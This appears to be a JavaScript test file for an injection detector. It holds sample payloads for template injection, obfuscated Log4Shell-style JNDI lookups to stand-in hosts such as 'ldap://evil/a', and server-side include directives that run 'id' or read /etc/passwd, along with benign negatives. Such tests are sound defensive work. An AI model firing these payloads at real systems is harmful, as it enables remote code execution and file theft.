import { test } from 'node:test';
import assert from 'node:assert/strict';
import { detectTemplateInjection, resolveLookupFragments } from '../../../src/detect/injection/template.js';
import { classifyQueryValue } from '../../../src/detect/injection/classify.js';

test('template and expression injection positives', () => {
  for (const payload of ['${7*7}', '{{7*7}}', '{{config.items()}}', '#{7*7}', '<%= 7*7 %>', '${T(java.lang.Runtime).getRuntime()}', '{% debug %}']) {
    assert.ok(detectTemplateInjection(payload).includes('template-expression'), payload);
  }
});

test('jndi lookups and their obfuscations', () => {
  assert.equal(resolveLookupFragments('${${lower:j}ndi:ldap://x}'), '${jndi:ldap://x}');
  assert.equal(resolveLookupFragments('${${::-j}${::-n}${::-d}${::-i}:rmi://x}'), '${jndi:rmi://x}');
  for (const payload of ['${jndi:ldap://evil/a}', '${${lower:j}ndi:ldap://x}', '${${env:nope:-j}ndi${env:nope:-:}ldap://x}', '${${upper:j}${upper:n}di:dns://x}']) {
    assert.ok(detectTemplateInjection(payload).includes('jndi-lookup'), payload);
  }
  assert.ok(classifyQueryValue('%24%7Bjndi%3Aldap%3A%2F%2Fx%7D').rules.includes('jndi-lookup'));
});

test('server-side include directives', () => {
  assert.ok(detectTemplateInjection('<!--#exec cmd="id"-->').includes('template-ssi'));
  assert.ok(classifyQueryValue('%3C%21--%23include+virtual%3D%22%2Fetc%2Fpasswd%22--%3E').rules.includes('template-ssi'));
  assert.deepEqual(detectTemplateInjection('<!-- a comment -->'), []);
});

test('template negatives: braces in ordinary values and unexpanded page variables', () => {
  for (const value of ['{"a":1}', '${linkto}', '{{name}}', 'price {sale}', '#{anchor}', '100% <b']) {
    assert.deepEqual(detectTemplateInjection(value), [], value);
  }
});
